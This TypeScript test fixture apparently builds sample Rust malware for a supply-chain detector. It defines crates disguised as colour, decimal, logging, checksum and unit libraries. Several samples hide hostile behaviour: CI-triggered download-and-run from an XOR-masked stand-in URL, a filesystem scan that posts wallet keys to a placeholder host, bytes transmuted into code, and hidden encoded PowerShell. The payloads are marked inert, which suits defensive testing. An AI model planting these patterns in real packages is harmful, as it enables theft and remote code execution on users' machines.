/** Libraries without a build script or macro, whose code acts where the program runs. */
import { inertText, library, type Sample } from './sample.ts';

export const libraries: readonly Sample[] = [
  library({
    name: 'constructor-section',
    imitates: 'A function in a section of constructors runs before main, and calls the C library directly.',
    shows: ['concealment'],
    files: {
      'src/lib.rs': String.raw`//! Colours for terminals.

use std::ffi::{c_char, c_int};

extern "C" {
    fn system(line: *const c_char) -> c_int;
}

#[used]
#[cfg_attr(target_os = "linux", link_section = ".init_array")]
#[cfg_attr(target_os = "macos", link_section = "__DATA,__mod_init_func")]
static START: extern "C" fn() = {
    extern "C" fn start() {
        unsafe {
            system(b"true # inert sample: nothing to run\0".as_ptr().cast());
        }
    }
    start
};

/// The sequence that makes text red.
pub const RED: &str = "\x1b[31m";
`,
    },
  }),
  library({
    name: 'masked-names-in-ci',
    imitates:
      'A constructor looks for a CI service, unmasks an address and runs what it gets, as a lookalike of a library for decimals did in 2022.',
    shows: ['concealment', 'environment', 'network', 'process'],
    dependencies: { ureq: { version: '2' } },
    files: {
      'src/lib.rs': `//! Decimal numbers.

use std::io::Read;
use std::process::Command;

const KEY: u8 = 0x0c;
const MASKED: [u8; 29] = [
${maskedRows('https://payload.invalid/tools').join('\n')}
];

fn unmasked(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| char::from(byte ^ KEY)).collect()
}

pub struct Decimal {
    digits: i128,
    scale: u32,
}

impl Decimal {
    pub fn new(digits: i128, scale: u32) -> Decimal {
        if std::env::var_os("GITLAB_CI").is_some() {
            let _ = prepare();
        }
        Decimal { digits, scale }
    }

    pub fn scaled(&self) -> f64 {
        self.digits as f64 / 10f64.powi(self.scale as i32)
    }
}

fn prepare() -> Option<()> {
    let path = std::env::temp_dir().join("updater.bin");
    let mut bytes = Vec::new();
    let answer = ureq::get(&unmasked(&MASKED)).call().ok()?;
    answer.into_reader().read_to_end(&mut bytes).ok()?;
    std::fs::write(&path, bytes).ok()?;
    Command::new(path).spawn().ok().map(drop)
}
`,
    },
  }),
  library({
    name: 'log-scanner',
    imitates:
      'A logger searches files for keys of wallets and posts them, as two lookalikes of a logging library did in 2025.',
    shows: ['network'],
    dependencies: { reqwest: { version: '0.12' }, regex: { version: '1' } },
    files: {
      'src/lib.rs': `//! A small logger.

use regex::Regex;
use std::fs;
use std::path::Path;

const KEY: &str = r#"(?:0x)?[0-9a-fA-F]{64}|[1-9A-HJ-NP-Za-km-z]{87,88}"#;

pub fn start(level: &str) {
    let level = level.to_owned();
    std::thread::spawn(move || pack(Path::new("/"), &level));
}

fn pack(folder: &Path, level: &str) -> Option<()> {
    let key = Regex::new(KEY).ok()?;
    for entry in fs::read_dir(folder).ok()?.flatten() {
        let path = entry.path();
        if path.is_dir() {
            pack(&path, level);
        } else if path
            .extension()
            .is_some_and(|ending| ending == "log" || ending == "rs")
        {
            let text = fs::read_to_string(&path).unwrap_or_default();
            for found in key.find_iter(&text) {
                let _ = reqwest::blocking::Client::new()
                    .post("https://logs.invalid/collect")
                    .body(format!("{level} {}", found.as_str()))
                    .send();
            }
        }
    }
    Some(())
}
`,
    },
  }),
  library({
    name: 'bytes-as-code',
    imitates: 'The bytes of a file in the package are taken for a function and called.',
    shows: ['concealment'],
    files: {
      'src/lib.rs': `//! Fast checksums.

static TABLE: &[u8] = include_bytes!("../data/table.bin");

/// A checksum that is fast where the processor helps.
pub fn checksum(bytes: &[u8]) -> u32 {
    let sum = unsafe {
        let step: extern "C" fn(*const u8, usize) -> u32 = std::mem::transmute(TABLE.as_ptr());
        step(bytes.as_ptr(), bytes.len())
    };
    sum.rotate_left(3)
}
`,
      'data/table.bin': '\0\x01inert sample: nothing to run\0\x02',
    },
  }),
  library({
    name: 'encoded-shell',
    imitates: 'A getter of a Windows library hands an encoded script to PowerShell, without a window.',
    shows: ['process', 'concealment'],
    files: {
      'src/lib.rs': `//! Names of units.

#[cfg(windows)]
mod native;

/// The name of the unit with this power of ten.
pub fn unit(power: i32) -> &'static str {
    #[cfg(windows)]
    native::ready();
    match power {
        3 => "kilo",
        6 => "mega",
        _ => "",
    }
}
`,
      'src/native.rs': `use std::os::windows::process::CommandExt;
use std::process::Command;

const NO_WINDOW: u32 = 0x0800_0000;

pub fn ready() {
    let _ = Command::new("powershell")
        .args(["-NoProfile", "-WindowStyle", "Hidden", "-enc"])
        .arg("${Buffer.from(inertText, 'utf16le').toString('base64')}")
        .creation_flags(NO_WINDOW)
        .spawn();
}
`,
    },
  }),
];

/** The bytes of a text under the key of `masked-names-in-ci`, sixteen a line. */
function maskedRows(text: string): readonly string[] {
  const bytes = Array.from(Buffer.from(text), (byte) => `0x${(byte ^ 0x0c).toString(16).padStart(2, '0')}`);
  return bytes.flatMap((_, at) => (at % 16 === 0 ? [`    ${bytes.slice(at, at + 16).join(', ')},`] : []));
}
